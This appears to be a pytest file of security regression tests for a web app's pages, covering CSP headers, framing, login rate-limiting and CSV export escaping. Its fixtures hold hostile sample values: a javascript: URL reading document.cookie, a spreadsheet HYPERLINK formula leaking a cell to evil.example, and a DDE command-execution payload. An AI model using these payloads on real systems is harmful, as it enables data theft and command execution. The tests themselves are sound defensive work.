"""Issue 32's reproducers for the pages, each failing on main 7c8cd85: no script from stored
data (links only for http(s) URLs, a strict CSP), no framing, no sniffing, login attempts
rate-limited, CSV cells that a spreadsheet would run neutralised."""

from __future__ import annotations

import copy
import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from fastapi.testclient import TestClient

from stack_advisor.api import examples
from stack_advisor.schema.models import ResultDocument
from stack_advisor.store.base import Store
from stack_advisor.store.registry import open_store
from tests.support.api import make_app

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_RUN = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    doc = copy.deepcopy(examples.RESULT_DOCUMENT)
    doc["provenance"]["url"] = "javascript:alert(document.cookie)"
    doc["run"]["run_id"] = FORMULA_RUN
    doc["measurements"] = doc["measurements"][:1]
    doc["measurements"][0]["note"] = FORMULA_NOTE
    store = open_store(f"embedded:{tmp_path_factory.mktemp('hostile') / 'kb'}")
    store.ingest(ResultDocument.model_validate(doc).to_batch())
    yield store
    store.close()


@pytest.fixture(scope="module")
def client(hostile_store: Store, web_tokens: dict[str, str]) -> Iterator[TestClient]:
    with TestClient(make_app(hostile_store, web_tokens, read_auth="open")) as c:
        yield c


def _key(store: Store) -> str:
    from stack_advisor.schema.models import ObservationFilter

    return store.query_observations(ObservationFilter(), limit=1)[0].key


def test_a_javascript_url_in_stored_data_is_never_a_link(
    client: TestClient, hostile_store: Store
) -> None:
    page = client.get("/observation?" + urlencode({"key": _key(hostile_store)}))
    assert page.status_code == 200
    assert "javascript:alert" in page.text  # shown as text
    assert 'href="javascript:' not in page.text.replace(" ", "")
    from stack_advisor.web.render import web_url

    assert web_url("https://mlcommons.org/x") == "https://mlcommons.org/x"
    for bad in (
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:text/html,<script>",
        "//evil",
        "vbscript:x",
        "http:/no-host",
        "https://a.example/\nx",
    ):
        assert web_url(bad) is None, bad


@pytest.mark.parametrize("path", ["/", "/login", "/recommend", "/observation?key=nope"])
def test_pages_carry_a_strict_csp_and_cannot_be_framed(client: TestClient, path: str) -> None:
    r = client.get(path)
    csp = r.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
    assert "default-src 'none'" in csp and "unsafe-inline" not in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"
    assert r.headers["x-frame-options"] == "DENY"
    if r.headers["content-type"].startswith("text/html"):
        assert (
            "<script>" not in r.text and " on" not in r.text.split("<body", 1)[-1].split(">", 1)[0]
        )


def test_repeated_wrong_logins_are_refused_for_a_while(
    hostile_store: Store, web_tokens: dict[str, str]
) -> None:
    with TestClient(make_app(hostile_store, web_tokens)) as c:
        statuses = [
            c.post("/login", data={"token": f"wrong-{i}", "next": "/"}).status_code
            for i in range(15)
        ]
        assert statuses[:10] == [401] * 10 and set(statuses[10:]) == {429}
        refused = c.post(
            "/login", data={"token": web_tokens["read"], "next": "/"}, follow_redirects=False
        )
        assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1


def test_csv_exports_neutralise_formulas(client: TestClient, hostile_store: Store) -> None:
    for url in (
        "/observation?" + urlencode({"key": _key(hostile_store), "format": "csv"}),
        "/?format=csv",
    ):
        text = client.get(url).text
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [
            c
            for c in cells
            if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))
        ], url
    text = client.get(
        "/observation?" + urlencode({"key": _key(hostile_store), "format": "csv"})
    ).text
    assert "'" + FORMULA_NOTE.replace('"', '""') in text and "'" + FORMULA_RUN in text


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_spreadsheet_safe_keeps_numbers() -> None:
    from stack_advisor.advisor.csv_cells import spreadsheet_safe

    assert spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("-1,234") == "-1,234"
    assert spreadsheet_safe("-cmd") == "'-cmd" and spreadsheet_safe("\tx") == "'\tx"
    assert spreadsheet_safe("+1+1") == "'+1+1" and spreadsheet_safe("a=b") == "a=b"


def test_no_inline_script_or_handler_in_any_template() -> None:
    import re

    folder = Path(__file__).resolve().parents[2] / "stack_advisor" / "web" / "templates"
    for template in folder.glob("*.html"):
        text = template.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", text), template.name
        assert not re.search(r"\son[a-z]+=", text), template.name
        assert "style=" not in text, template.name
